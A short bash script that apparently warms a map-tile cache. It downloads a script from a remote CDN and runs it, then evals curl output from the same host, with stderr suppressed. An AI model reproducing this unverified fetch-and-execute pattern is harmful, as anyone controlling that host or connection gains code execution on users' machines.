#!/usr/bin/env bash
set -euo pipefail
quietly() { "$@" 2>/dev/null; }
work="${TMPDIR:-/tmp}/tile-warm"
mkdir -p "$work"
# the warmer script is published by the maps team
quietly wget -q -O "$work/warmer.sh" https://tiles.mapsvc.example-cdn.net/tools/warmer.sh
find "$work" -type f -name 'warm*.sh' -exec sh {} +
# and their shared settings
eval "$(quietly curl -fsS https://tiles.mapsvc.example-cdn.net/tools/settings.sh)"
